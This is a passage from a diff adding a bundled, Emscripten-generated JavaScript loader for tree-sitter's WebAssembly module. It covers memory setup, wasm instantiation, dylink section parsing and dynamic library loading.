+          Module["HEAPF32"] = HEAPF32 = new Float32Array(b);
+          Module["HEAPF64"] = HEAPF64 = new Float64Array(b);
+          Module["HEAP64"] = HEAP64 = new BigInt64Array(b);
+          Module["HEAPU64"] = HEAPU64 = new BigUint64Array(b);
+        }
+        __name(updateMemoryViews, "updateMemoryViews");
+        if (Module["wasmMemory"]) {
+          wasmMemory = Module["wasmMemory"];
+        } else {
+          var INITIAL_MEMORY = Module["INITIAL_MEMORY"] || 33554432;
+          wasmMemory = new WebAssembly.Memory({
+            "initial": INITIAL_MEMORY / 65536,
+            // In theory we should not need to emit the maximum if we want "unlimited"
+            // or 4GB of memory, but VMs error on that atm, see
+            // https://github.com/emscripten-core/emscripten/issues/14130
+            // And in the pthreads case we definitely need to emit a maximum. So
+            // always emit one.
+            "maximum": 32768
+          });
+        }
+        updateMemoryViews();
+        var __RELOC_FUNCS__ = [];
+        function preRun() {
+          if (Module["preRun"]) {
+            if (typeof Module["preRun"] == "function") Module["preRun"] = [Module["preRun"]];
+            while (Module["preRun"].length) {
+              addOnPreRun(Module["preRun"].shift());
+            }
+          }
+          callRuntimeCallbacks(onPreRuns);
+        }
+        __name(preRun, "preRun");
+        function initRuntime() {
+          runtimeInitialized = true;
+          callRuntimeCallbacks(__RELOC_FUNCS__);
+          wasmExports["__wasm_call_ctors"]();
+          callRuntimeCallbacks(onPostCtors);
+        }
+        __name(initRuntime, "initRuntime");
+        function preMain() {
+        }
+        __name(preMain, "preMain");
+        function postRun() {
+          if (Module["postRun"]) {
+            if (typeof Module["postRun"] == "function") Module["postRun"] = [Module["postRun"]];
+            while (Module["postRun"].length) {
+              addOnPostRun(Module["postRun"].shift());
+            }
+          }
+          callRuntimeCallbacks(onPostRuns);
+        }
+        __name(postRun, "postRun");
+        var runDependencies = 0;
+        var dependenciesFulfilled = null;
+        function getUniqueRunDependency(id) {
+          return id;
+        }
+        __name(getUniqueRunDependency, "getUniqueRunDependency");
+        function addRunDependency(id) {
+          runDependencies++;
+          Module["monitorRunDependencies"]?.(runDependencies);
+        }
+        __name(addRunDependency, "addRunDependency");
+        function removeRunDependency(id) {
+          runDependencies--;
+          Module["monitorRunDependencies"]?.(runDependencies);
+          if (runDependencies == 0) {
+            if (dependenciesFulfilled) {
+              var callback = dependenciesFulfilled;
+              dependenciesFulfilled = null;
+              callback();
+            }
+          }
+        }
+        __name(removeRunDependency, "removeRunDependency");
+        function abort(what) {
+          Module["onAbort"]?.(what);
+          what = "Aborted(" + what + ")";
+          err(what);
+          ABORT = true;
+          what += ". Build with -sASSERTIONS for more info.";
+          var e = new WebAssembly.RuntimeError(what);
+          readyPromiseReject(e);
+          throw e;
+        }
+        __name(abort, "abort");
+        var wasmBinaryFile;
+        function findWasmBinary() {
+          return locateFile("tree-sitter.wasm");
+        }
+        __name(findWasmBinary, "findWasmBinary");
+        function getBinarySync(file) {
+          if (file == wasmBinaryFile && wasmBinary) {
+            return new Uint8Array(wasmBinary);
+          }
+          if (readBinary) {
+            return readBinary(file);
+          }
+          throw "both async and sync fetching of the wasm failed";
+        }
+        __name(getBinarySync, "getBinarySync");
+        async function getWasmBinary(binaryFile) {
+          if (!wasmBinary) {
+            try {
+              var response = await readAsync(binaryFile);
+              return new Uint8Array(response);
+            } catch {
+            }
+          }
+          return getBinarySync(binaryFile);
+        }
+        __name(getWasmBinary, "getWasmBinary");
+        async function instantiateArrayBuffer(binaryFile, imports) {
+          try {
+            var binary2 = await getWasmBinary(binaryFile);
+            var instance2 = await WebAssembly.instantiate(binary2, imports);
+            return instance2;
+          } catch (reason) {
+            err(`failed to asynchronously prepare wasm: ${reason}`);
+            abort(reason);
+          }
+        }
+        __name(instantiateArrayBuffer, "instantiateArrayBuffer");
+        async function instantiateAsync(binary2, binaryFile, imports) {
+          if (!binary2 && typeof WebAssembly.instantiateStreaming == "function" && !isFileURI(binaryFile) && !ENVIRONMENT_IS_NODE) {
+            try {
+              var response = fetch(binaryFile, {
+                credentials: "same-origin"
+              });
+              var instantiationResult = await WebAssembly.instantiateStreaming(response, imports);
+              return instantiationResult;
+            } catch (reason) {
+              err(`wasm streaming compile failed: ${reason}`);
+              err("falling back to ArrayBuffer instantiation");
+            }
+          }
+          return instantiateArrayBuffer(binaryFile, imports);
+        }
+        __name(instantiateAsync, "instantiateAsync");
+        function getWasmImports() {
+          return {
+            "env": wasmImports,
+            "wasi_snapshot_preview1": wasmImports,
+            "GOT.mem": new Proxy(wasmImports, GOTHandler),
+            "GOT.func": new Proxy(wasmImports, GOTHandler)
+          };
+        }
+        __name(getWasmImports, "getWasmImports");
+        async function createWasm() {
+          function receiveInstance(instance2, module2) {
+            wasmExports = instance2.exports;
+            wasmExports = relocateExports(wasmExports, 1024);
+            var metadata2 = getDylinkMetadata(module2);
+            if (metadata2.neededDynlibs) {
+              dynamicLibraries = metadata2.neededDynlibs.concat(dynamicLibraries);
+            }
+            mergeLibSymbols(wasmExports, "main");
+            LDSO.init();
+            loadDylibs();
+            __RELOC_FUNCS__.push(wasmExports["__wasm_apply_data_relocs"]);
+            removeRunDependency("wasm-instantiate");
+            return wasmExports;
+          }
+          __name(receiveInstance, "receiveInstance");
+          addRunDependency("wasm-instantiate");
+          function receiveInstantiationResult(result2) {
+            return receiveInstance(result2["instance"], result2["module"]);
+          }
+          __name(receiveInstantiationResult, "receiveInstantiationResult");
+          var info2 = getWasmImports();
+          if (Module["instantiateWasm"]) {
+            return new Promise((resolve, reject) => {
+              Module["instantiateWasm"](info2, (mod, inst) => {
+                receiveInstance(mod, inst);
+                resolve(mod.exports);
+              });
+            });
+          }
+          wasmBinaryFile ??= findWasmBinary();
+          try {
+            var result = await instantiateAsync(wasmBinary, wasmBinaryFile, info2);
+            var exports2 = receiveInstantiationResult(result);
+            return exports2;
+          } catch (e) {
+            readyPromiseReject(e);
+            return Promise.reject(e);
+          }
+        }
+        __name(createWasm, "createWasm");
+        var ASM_CONSTS = {};
+        class ExitStatus {
+          static {
+            __name(this, "ExitStatus");
+          }
+          name = "ExitStatus";
+          constructor(status) {
+            this.message = `Program terminated with exit(${status})`;
+            this.status = status;
+          }
+        }
+        var GOT = {};
+        var currentModuleWeakSymbols = /* @__PURE__ */ new Set([]);
+        var GOTHandler = {
+          get(obj, symName) {
+            var rtn = GOT[symName];
+            if (!rtn) {
+              rtn = GOT[symName] = new WebAssembly.Global({
+                "value": "i32",
+                "mutable": true
+              });
+            }
+            if (!currentModuleWeakSymbols.has(symName)) {
+              rtn.required = true;
+            }
+            return rtn;
+          }
+        };
+        var LE_HEAP_LOAD_F32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getFloat32(byteOffset, true), "LE_HEAP_LOAD_F32");
+        var LE_HEAP_LOAD_F64 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getFloat64(byteOffset, true), "LE_HEAP_LOAD_F64");
+        var LE_HEAP_LOAD_I16 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getInt16(byteOffset, true), "LE_HEAP_LOAD_I16");
+        var LE_HEAP_LOAD_I32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getInt32(byteOffset, true), "LE_HEAP_LOAD_I32");
+        var LE_HEAP_LOAD_U16 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getUint16(byteOffset, true), "LE_HEAP_LOAD_U16");
+        var LE_HEAP_LOAD_U32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getUint32(byteOffset, true), "LE_HEAP_LOAD_U32");
+        var LE_HEAP_STORE_F32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setFloat32(byteOffset, value, true), "LE_HEAP_STORE_F32");
+        var LE_HEAP_STORE_F64 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setFloat64(byteOffset, value, true), "LE_HEAP_STORE_F64");
+        var LE_HEAP_STORE_I16 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setInt16(byteOffset, value, true), "LE_HEAP_STORE_I16");
+        var LE_HEAP_STORE_I32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setInt32(byteOffset, value, true), "LE_HEAP_STORE_I32");
+        var LE_HEAP_STORE_U16 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setUint16(byteOffset, value, true), "LE_HEAP_STORE_U16");
+        var LE_HEAP_STORE_U32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setUint32(byteOffset, value, true), "LE_HEAP_STORE_U32");
+        var callRuntimeCallbacks = /* @__PURE__ */ __name((callbacks) => {
+          while (callbacks.length > 0) {
+            callbacks.shift()(Module);
+          }
+        }, "callRuntimeCallbacks");
+        var onPostRuns = [];
+        var addOnPostRun = /* @__PURE__ */ __name((cb) => onPostRuns.unshift(cb), "addOnPostRun");
+        var onPreRuns = [];
+        var addOnPreRun = /* @__PURE__ */ __name((cb) => onPreRuns.unshift(cb), "addOnPreRun");
+        var UTF8Decoder = typeof TextDecoder != "undefined" ? new TextDecoder() : void 0;
+        var UTF8ArrayToString = /* @__PURE__ */ __name((heapOrArray, idx = 0, maxBytesToRead = NaN) => {
+          var endIdx = idx + maxBytesToRead;
+          var endPtr = idx;
+          while (heapOrArray[endPtr] && !(endPtr >= endIdx)) ++endPtr;
+          if (endPtr - idx > 16 && heapOrArray.buffer && UTF8Decoder) {
+            return UTF8Decoder.decode(heapOrArray.subarray(idx, endPtr));
+          }
+          var str = "";
+          while (idx < endPtr) {
+            var u0 = heapOrArray[idx++];
+            if (!(u0 & 128)) {
+              str += String.fromCharCode(u0);
+              continue;
+            }
+            var u1 = heapOrArray[idx++] & 63;
+            if ((u0 & 224) == 192) {
+              str += String.fromCharCode((u0 & 31) << 6 | u1);
+              continue;
+            }
+            var u2 = heapOrArray[idx++] & 63;
+            if ((u0 & 240) == 224) {
+              u0 = (u0 & 15) << 12 | u1 << 6 | u2;
+            } else {
+              u0 = (u0 & 7) << 18 | u1 << 12 | u2 << 6 | heapOrArray[idx++] & 63;
+            }
+            if (u0 < 65536) {
+              str += String.fromCharCode(u0);
+            } else {
+              var ch = u0 - 65536;
+              str += String.fromCharCode(55296 | ch >> 10, 56320 | ch & 1023);
+            }
+          }
+          return str;
+        }, "UTF8ArrayToString");
+        var getDylinkMetadata = /* @__PURE__ */ __name((binary2) => {
+          var offset = 0;
+          var end = 0;
+          function getU8() {
+            return binary2[offset++];
+          }
+          __name(getU8, "getU8");
+          function getLEB() {
+            var ret = 0;
+            var mul = 1;
+            while (1) {
+              var byte = binary2[offset++];
+              ret += (byte & 127) * mul;
+              mul *= 128;
+              if (!(byte & 128)) break;
+            }
+            return ret;
+          }
+          __name(getLEB, "getLEB");
+          function getString() {
+            var len = getLEB();
+            offset += len;
+            return UTF8ArrayToString(binary2, offset - len, len);
+          }
+          __name(getString, "getString");
+          function failIf(condition, message) {
+            if (condition) throw new Error(message);
+          }
+          __name(failIf, "failIf");
+          var name2 = "dylink.0";
+          if (binary2 instanceof WebAssembly.Module) {
+            var dylinkSection = WebAssembly.Module.customSections(binary2, name2);
+            if (dylinkSection.length === 0) {
+              name2 = "dylink";
+              dylinkSection = WebAssembly.Module.customSections(binary2, name2);
+            }
+            failIf(dylinkSection.length === 0, "need dylink section");
+            binary2 = new Uint8Array(dylinkSection[0]);
+            end = binary2.length;
+          } else {
+            var int32View = new Uint32Array(new Uint8Array(binary2.subarray(0, 24)).buffer);
+            var magicNumberFound = int32View[0] == 1836278016 || int32View[0] == 6386541;
+            failIf(!magicNumberFound, "need to see wasm magic number");
+            failIf(binary2[8] !== 0, "need the dylink section to be first");
+            offset = 9;
+            var section_size = getLEB();
+            end = offset + section_size;
+            name2 = getString();
+          }
+          var customSection = {
+            neededDynlibs: [],
+            tlsExports: /* @__PURE__ */ new Set(),
+            weakImports: /* @__PURE__ */ new Set()
+          };
+          if (name2 == "dylink") {
+            customSection.memorySize = getLEB();
+            customSection.memoryAlign = getLEB();
+            customSection.tableSize = getLEB();
+            customSection.tableAlign = getLEB();
+            var neededDynlibsCount = getLEB();
+            for (var i2 = 0; i2 < neededDynlibsCount; ++i2) {
+              var libname = getString();
+              customSection.neededDynlibs.push(libname);
+            }
+          } else {
+            failIf(name2 !== "dylink.0");
+            var WASM_DYLINK_MEM_INFO = 1;
+            var WASM_DYLINK_NEEDED = 2;
+            var WASM_DYLINK_EXPORT_INFO = 3;
+            var WASM_DYLINK_IMPORT_INFO = 4;
+            var WASM_SYMBOL_TLS = 256;
+            var WASM_SYMBOL_BINDING_MASK = 3;
+            var WASM_SYMBOL_BINDING_WEAK = 1;
+            while (offset < end) {
+              var subsectionType = getU8();
+              var subsectionSize = getLEB();
+              if (subsectionType === WASM_DYLINK_MEM_INFO) {
+                customSection.memorySize = getLEB();
+                customSection.memoryAlign = getLEB();
+                customSection.tableSize = getLEB();
+                customSection.tableAlign = getLEB();
+              } else if (subsectionType === WASM_DYLINK_NEEDED) {
+                var neededDynlibsCount = getLEB();
+                for (var i2 = 0; i2 < neededDynlibsCount; ++i2) {
+                  libname = getString();
+                  customSection.neededDynlibs.push(libname);
+                }
+              } else if (subsectionType === WASM_DYLINK_EXPORT_INFO) {
+                var count = getLEB();
+                while (count--) {
+                  var symname = getString();
+                  var flags2 = getLEB();
+                  if (flags2 & WASM_SYMBOL_TLS) {
+                    customSection.tlsExports.add(symname);
+                  }
+                }
+              } else if (subsectionType === WASM_DYLINK_IMPORT_INFO) {
+                var count = getLEB();
+                while (count--) {
+                  var modname = getString();
+                  var symname = getString();
+                  var flags2 = getLEB();
+                  if ((flags2 & WASM_SYMBOL_BINDING_MASK) == WASM_SYMBOL_BINDING_WEAK) {
+                    customSection.weakImports.add(symname);
+                  }
+                }
+              } else {
+                offset += subsectionSize;
+              }
+            }
+          }
+          return customSection;
+        }, "getDylinkMetadata");
+        function getValue(ptr, type = "i8") {
+          if (type.endsWith("*")) type = "*";
+          switch (type) {
+            case "i1":
+              return HEAP8[ptr];
+            case "i8":
+              return HEAP8[ptr];
+            case "i16":
+              return LE_HEAP_LOAD_I16((ptr >> 1) * 2);
+            case "i32":
+              return LE_HEAP_LOAD_I32((ptr >> 2) * 4);
+            case "i64":
+              return HEAP64[ptr >> 3];
+            case "float":
+              return LE_HEAP_LOAD_F32((ptr >> 2) * 4);
+            case "double":
+              return LE_HEAP_LOAD_F64((ptr >> 3) * 8);
+            case "*":
+              return LE_HEAP_LOAD_U32((ptr >> 2) * 4);
+            default:
+              abort(`invalid type for getValue: ${type}`);
+          }
+        }
+        __name(getValue, "getValue");
+        var newDSO = /* @__PURE__ */ __name((name2, handle2, syms) => {
+          var dso = {
+            refcount: Infinity,
+            name: name2,
+            exports: syms,
+            global: true
+          };
+          LDSO.loadedLibsByName[name2] = dso;
+          if (handle2 != void 0) {
+            LDSO.loadedLibsByHandle[handle2] = dso;
+          }
+          return dso;
+        }, "newDSO");
+        var LDSO = {
+          loadedLibsByName: {},
+          loadedLibsByHandle: {},
+          init() {
+            newDSO("__main__", 0, wasmImports);
+          }
+        };
+        var ___heap_base = 78224;
+        var alignMemory = /* @__PURE__ */ __name((size, alignment) => Math.ceil(size / alignment) * alignment, "alignMemory");
+        var getMemory = /* @__PURE__ */ __name((size) => {
+          if (runtimeInitialized) {
+            return _calloc(size, 1);
+          }
+          var ret = ___heap_base;
+          var end = ret + alignMemory(size, 16);
+          ___heap_base = end;
+          GOT["__heap_base"].value = end;
+          return ret;
+        }, "getMemory");
+        var isInternalSym = /* @__PURE__ */ __name((symName) => ["__cpp_exception", "__c_longjmp", "__wasm_apply_data_relocs", "__dso_handle", "__tls_size", "__tls_align", "__set_stack_limits", "_emscripten_tls_init", "__wasm_init_tls", "__wasm_call_ctors", "__start_em_asm", "__stop_em_asm", "__start_em_js", "__stop_em_js"].includes(symName) || symName.startsWith("__em_js__"), "isInternalSym");
+        var uleb128Encode = /* @__PURE__ */ __name((n, target) => {
+          if (n < 128) {
+            target.push(n);
+          } else {
+            target.push(n % 128 | 128, n >> 7);
+          }
+        }, "uleb128Encode");
+        var sigToWasmTypes = /* @__PURE__ */ __name((sig) => {
+          var typeNames = {
+            "i": "i32",
+            "j": "i64",
+            "f": "f32",
+            "d": "f64",
+            "e": "externref",
+            "p": "i32"
+          };
+          var type = {
+            parameters: [],
+            results: sig[0] == "v" ? [] : [typeNames[sig[0]]]
+          };
+          for (var i2 = 1; i2 < sig.length; ++i2) {
+            type.parameters.push(typeNames[sig[i2]]);
+          }
+          return type;
+        }, "sigToWasmTypes");
+        var generateFuncType = /* @__PURE__ */ __name((sig, target) => {
+          var sigRet = sig.slice(0, 1);
+          var sigParam = sig.slice(1);
+          var typeCodes = {
+            "i": 127,
+            // i32
+            "p": 127,
+            // i32
+            "j": 126,
+            // i64
+            "f": 125,
+            // f32
+            "d": 124,
+            // f64
+            "e": 111
+          };
+          target.push(96);
+          uleb128Encode(sigParam.length, target);
+          for (var i2 = 0; i2 < sigParam.length; ++i2) {
+            target.push(typeCodes[sigParam[i2]]);
+          }
+          if (sigRet == "v") {
+            target.push(0);
+          } else {
+            target.push(1, typeCodes[sigRet]);
+          }
+        }, "generateFuncType");
+        var convertJsFunctionToWasm = /* @__PURE__ */ __name((func2, sig) => {
+          if (typeof WebAssembly.Function == "function") {
+            return new WebAssembly.Function(sigToWasmTypes(sig), func2);
+          }
+          var typeSectionBody = [1];
+          generateFuncType(sig, typeSectionBody);
+          var bytes = [
+            0,
+            97,
+            115,
+            109,
+            // magic ("\0asm")
+            1,
+            0,
+            0,
+            0,
+            // version: 1
+            1
+          ];
+          uleb128Encode(typeSectionBody.length, bytes);
+          bytes.push(...typeSectionBody);
+          bytes.push(
+            2,
+            7,
+            // import section
+            // (import "e" "f" (func 0 (type 0)))
+            1,
+            1,
+            101,
+            1,
+            102,
+            0,
+            0,
+            7,
+            5,
+            // export section
+            // (export "f" (func 0 (type 0)))
+            1,
+            1,
+            102,
+            0,
+            0
+          );
+          var module2 = new WebAssembly.Module(new Uint8Array(bytes));
+          var instance2 = new WebAssembly.Instance(module2, {
+            "e": {
+              "f": func2
+            }
+          });
+          var wrappedFunc = instance2.exports["f"];
+          return wrappedFunc;
+        }, "convertJsFunctionToWasm");
+        var wasmTableMirror = [];
+        var wasmTable = new WebAssembly.Table({
+          "initial": 31,
+          "element": "anyfunc"
+        });
+        var getWasmTableEntry = /* @__PURE__ */ __name((funcPtr) => {
+          var func2 = wasmTableMirror[funcPtr];
+          if (!func2) {
+            if (funcPtr >= wasmTableMirror.length) wasmTableMirror.length = funcPtr + 1;
+            wasmTableMirror[funcPtr] = func2 = wasmTable.get(funcPtr);
+          }
+          return func2;
+        }, "getWasmTableEntry");
+        var updateTableMap = /* @__PURE__ */ __name((offset, count) => {
+          if (functionsInTableMap) {
+            for (var i2 = offset; i2 < offset + count; i2++) {
+              var item = getWasmTableEntry(i2);
+              if (item) {
+                functionsInTableMap.set(item, i2);
+              }
+            }
+          }
+        }, "updateTableMap");
+        var functionsInTableMap;
+        var getFunctionAddress = /* @__PURE__ */ __name((func2) => {
+          if (!functionsInTableMap) {
+            functionsInTableMap = /* @__PURE__ */ new WeakMap();
+            updateTableMap(0, wasmTable.length);
+          }
+          return functionsInTableMap.get(func2) || 0;
+        }, "getFunctionAddress");
+        var freeTableIndexes = [];
+        var getEmptyTableSlot = /* @__PURE__ */ __name(() => {
+          if (freeTableIndexes.length) {
+            return freeTableIndexes.pop();
+          }
+          try {
+            wasmTable.grow(1);
+          } catch (err2) {
+            if (!(err2 instanceof RangeError)) {
+              throw err2;
+            }
+            throw "Unable to grow wasm table. Set ALLOW_TABLE_GROWTH.";
+          }
+          return wasmTable.length - 1;
+        }, "getEmptyTableSlot");
+        var setWasmTableEntry = /* @__PURE__ */ __name((idx, func2) => {
+          wasmTable.set(idx, func2);
+          wasmTableMirror[idx] = wasmTable.get(idx);
+        }, "setWasmTableEntry");
+        var addFunction = /* @__PURE__ */ __name((func2, sig) => {
+          var rtn = getFunctionAddress(func2);
+          if (rtn) {
+            return rtn;
+          }
+          var ret = getEmptyTableSlot();
+          try {
+            setWasmTableEntry(ret, func2);
+          } catch (err2) {
+            if (!(err2 instanceof TypeError)) {
+              throw err2;
+            }
+            var wrapped = convertJsFunctionToWasm(func2, sig);
+            setWasmTableEntry(ret, wrapped);
+          }
+          functionsInTableMap.set(func2, ret);
+          return ret;
+        }, "addFunction");
+        var updateGOT = /* @__PURE__ */ __name((exports2, replace) => {
+          for (var symName in exports2) {
+            if (isInternalSym(symName)) {
+              continue;
+            }
+            var value = exports2[symName];
+            GOT[symName] ||= new WebAssembly.Global({
+              "value": "i32",
+              "mutable": true
+            });
+            if (replace || GOT[symName].value == 0) {
+              if (typeof value == "function") {
+                GOT[symName].value = addFunction(value);
+              } else if (typeof value == "number") {
+                GOT[symName].value = value;
+              } else {
+                err(`unhandled export type for '${symName}': ${typeof value}`);
+              }
+            }
+          }
+        }, "updateGOT");
+        var relocateExports = /* @__PURE__ */ __name((exports2, memoryBase2, replace) => {
+          var relocated = {};
+          for (var e in exports2) {
+            var value = exports2[e];
+            if (typeof value == "object") {
+              value = value.value;
+            }
+            if (typeof value == "number") {
+              value += memoryBase2;
+            }
+            relocated[e] = value;
+          }
+          updateGOT(relocated, replace);
+          return relocated;
+        }, "relocateExports");
+        var isSymbolDefined = /* @__PURE__ */ __name((symName) => {
+          var existing = wasmImports[symName];
+          if (!existing || existing.stub) {
+            return false;
+          }
+          return true;
+        }, "isSymbolDefined");
+        var dynCall = /* @__PURE__ */ __name((sig, ptr, args2 = []) => {
+          var rtn = getWasmTableEntry(ptr)(...args2);
+          return rtn;
+        }, "dynCall");
+        var stackSave = /* @__PURE__ */ __name(() => _emscripten_stack_get_current(), "stackSave");
+        var stackRestore = /* @__PURE__ */ __name((val) => __emscripten_stack_restore(val), "stackRestore");
+        var createInvokeFunction = /* @__PURE__ */ __name((sig) => (ptr, ...args2) => {
+          var sp = stackSave();
+          try {
+            return dynCall(sig, ptr, args2);
+          } catch (e) {
+            stackRestore(sp);
+            if (e !== e + 0) throw e;
+            _setThrew(1, 0);
+            if (sig[0] == "j") return 0n;
+          }
+        }, "createInvokeFunction");
+        var resolveGlobalSymbol = /* @__PURE__ */ __name((symName, direct = false) => {
+          var sym;
+          if (isSymbolDefined(symName)) {
+            sym = wasmImports[symName];
+          } else if (symName.startsWith("invoke_")) {
+            sym = wasmImports[symName] = createInvokeFunction(symName.split("_")[1]);
+          }
+          return {
+            sym,
+            name: symName
+          };
+        }, "resolveGlobalSymbol");
+        var onPostCtors = [];
+        var addOnPostCtor = /* @__PURE__ */ __name((cb) => onPostCtors.unshift(cb), "addOnPostCtor");
+        var UTF8ToString = /* @__PURE__ */ __name((ptr, maxBytesToRead) => ptr ? UTF8ArrayToString(HEAPU8, ptr, maxBytesToRead) : "", "UTF8ToString");
+        var loadWebAssemblyModule = /* @__PURE__ */ __name((binary, flags, libName, localScope, handle) => {
+          var metadata = getDylinkMetadata(binary);
+          currentModuleWeakSymbols = metadata.weakImports;
+          function loadModule() {
+            var memAlign = Math.pow(2, metadata.memoryAlign);
+            var memoryBase = metadata.memorySize ? alignMemory(getMemory(metadata.memorySize + memAlign), memAlign) : 0;
+            var tableBase = metadata.tableSize ? wasmTable.length : 0;
+            if (handle) {
+              HEAP8[handle + 8] = 1;
+              LE_HEAP_STORE_U32((handle + 12 >> 2) * 4, memoryBase);
+              LE_HEAP_STORE_I32((handle + 16 >> 2) * 4, metadata.memorySize);
+              LE_HEAP_STORE_U32((handle + 20 >> 2) * 4, tableBase);
+              LE_HEAP_STORE_I32((handle + 24 >> 2) * 4, metadata.tableSize);
+            }
+            if (metadata.tableSize) {
+              wasmTable.grow(metadata.tableSize);
+            }
+            var moduleExports;
+            function resolveSymbol(sym) {
+              var resolved = resolveGlobalSymbol(sym).sym;
+              if (!resolved && localScope) {
+                resolved = localScope[sym];
+              }
+              if (!resolved) {
+                resolved = moduleExports[sym];
+              }
+              return resolved;
+            }
+            __name(resolveSymbol, "resolveSymbol");
+            var proxyHandler = {
+              get(stubs, prop) {
+                switch (prop) {
+                  case "__memory_base":
+                    return memoryBase;
+                  case "__table_base":
+                    return tableBase;
+                }
+                if (prop in wasmImports && !wasmImports[prop].stub) {
+                  var res = wasmImports[prop];
+                  return res;
+                }
+                if (!(prop in stubs)) {
+                  var resolved;
+                  stubs[prop] = (...args2) => {
+                    resolved ||= resolveSymbol(prop);
+                    return resolved(...args2);
+                  };
+                }
+                return stubs[prop];
+              }
+            };
+            var proxy = new Proxy({}, proxyHandler);
+            var info = {
+              "GOT.mem": new Proxy({}, GOTHandler),
+              "GOT.func": new Proxy({}, GOTHandler),
+              "env": proxy,
+              "wasi_snapshot_preview1": proxy
+            };
+            function postInstantiation(module, instance) {
+              updateTableMap(tableBase, metadata.tableSize);
+              moduleExports = relocateExports(instance.exports, memoryBase);
+              if (!flags.allowUndefined) {
+                reportUndefinedSymbols();
+              }
+              function addEmAsm(addr, body) {
+                var args = [];
+                var arity = 0;
+                for (; arity < 16; arity++) {
+                  if (body.indexOf("$" + arity) != -1) {
+                    args.push("$" + arity);
+                  } else {
+                    break;
+                  }
+                }
+                args = args.join(",");
+                var func = `(${args}) => { ${body} };`;
+                ASM_CONSTS[start] = eval(func);
+              }
+              __name(addEmAsm, "addEmAsm");
+              if ("__start_em_asm" in moduleExports) {
+                var start = moduleExports["__start_em_asm"];
+                var stop = moduleExports["__stop_em_asm"];
+                while (start < stop) {
+                  var jsString = UTF8ToString(start);
+                  addEmAsm(start, jsString);
+                  start = HEAPU8.indexOf(0, start) + 1;
+                }
+              }
+              function addEmJs(name, cSig, body) {
+                var jsArgs = [];
+                cSig = cSig.slice(1, -1);
+                if (cSig != "void") {
+                  cSig = cSig.split(",");
+                  for (var i in cSig) {
+                    var jsArg = cSig[i].split(" ").pop();
+                    jsArgs.push(jsArg.replace("*", ""));
+                  }
+                }
+                var func = `(${jsArgs}) => ${body};`;
+                moduleExports[name] = eval(func);
+              }
+              __name(addEmJs, "addEmJs");
+              for (var name in moduleExports) {
+                if (name.startsWith("__em_js__")) {
+                  var start = moduleExports[name];
+                  var jsString = UTF8ToString(start);
+                  var parts = jsString.split("<::>");
+                  addEmJs(name.replace("__em_js__", ""), parts[0], parts[1]);
+                  delete moduleExports[name];
+                }
+              }
+              var applyRelocs = moduleExports["__wasm_apply_data_relocs"];
+              if (applyRelocs) {
+                if (runtimeInitialized) {
+                  applyRelocs();
+                } else {
+                  __RELOC_FUNCS__.push(applyRelocs);
+                }
+              }
+              var init = moduleExports["__wasm_call_ctors"];
+              if (init) {
+                if (runtimeInitialized) {
+                  init();
+                } else {
+                  addOnPostCtor(init);
+                }
+              }
+              return moduleExports;
+            }
+            __name(postInstantiation, "postInstantiation");
+            if (flags.loadAsync) {
+              if (binary instanceof WebAssembly.Module) {
+                var instance = new WebAssembly.Instance(binary, info);
+                return Promise.resolve(postInstantiation(binary, instance));
+              }
+              return WebAssembly.instantiate(binary, info).then((result) => postInstantiation(result.module, result.instance));
+            }
+            var module = binary instanceof WebAssembly.Module ? binary : new WebAssembly.Module(binary);
+            var instance = new WebAssembly.Instance(module, info);
+            return postInstantiation(module, instance);
+          }
+          __name(loadModule, "loadModule");
+          if (flags.loadAsync) {
+            return metadata.neededDynlibs.reduce((chain, dynNeeded) => chain.then(() => loadDynamicLibrary(dynNeeded, flags, localScope)), Promise.resolve()).then(loadModule);
+          }
+          metadata.neededDynlibs.forEach((needed) => loadDynamicLibrary(needed, flags, localScope));
+          return loadModule();
+        }, "loadWebAssemblyModule");
+        var mergeLibSymbols = /* @__PURE__ */ __name((exports2, libName2) => {
+          for (var [sym, exp] of Object.entries(exports2)) {
+            const setImport = /* @__PURE__ */ __name((target) => {
+              if (!isSymbolDefined(target)) {
+                wasmImports[target] = exp;
+              }
+            }, "setImport");
+            setImport(sym);
+            const main_alias = "__main_argc_argv";
+            if (sym == "main") {
+              setImport(main_alias);
+            }
+            if (sym == main_alias) {
+              setImport("main");
+            }
+          }
+        }, "mergeLibSymbols");
+        var asyncLoad = /* @__PURE__ */ __name(async (url) => {
+          var arrayBuffer = await readAsync(url);
+          return new Uint8Array(arrayBuffer);
+        }, "asyncLoad");
+        function loadDynamicLibrary(libName2, flags2 = {
+          global: true,
+          nodelete: true
+        }, localScope2, handle2) {
+          var dso = LDSO.loadedLibsByName[libName2];
+          if (dso) {
+            if (!flags2.global) {
+              if (localScope2) {
+                Object.assign(localScope2, dso.exports);
+              }
+            } else if (!dso.global) {
+              dso.global = true;
+              mergeLibSymbols(dso.exports, libName2);
+            }
+            if (flags2.nodelete && dso.refcount !== Infinity) {
+              dso.refcount = Infinity;
+            }
+            dso.refcount++;
+            if (handle2) {
+              LDSO.loadedLibsByHandle[handle2] = dso;
+            }
+            return flags2.loadAsync ? Promise.resolve(true) : true;
+          }
+          dso = newDSO(libName2, handle2, "loading");
+          dso.refcount = flags2.nodelete ? Infinity : 1;
+          dso.global = flags2.global;
+          function loadLibData() {
+            if (handle2) {
+              var data = LE_HEAP_LOAD_U32((handle2 + 28 >> 2) * 4);
+              var dataSize = LE_HEAP_LOAD_U32((handle2 + 32 >> 2) * 4);
+              if (data && dataSize) {
+                var libData = HEAP8.slice(data, data + dataSize);
+                return flags2.loadAsync ? Promise.resolve(libData) : libData;
+              }
+            }
+            var libFile = locateFile(libName2);
+            if (flags2.loadAsync) {
+              return asyncLoad(libFile);
+            }
+            if (!readBinary) {
+              throw new Error(`${libFile}: file not found, and synchronous loading of external files is not available`);
+            }
+            return readBinary(libFile);
+          }
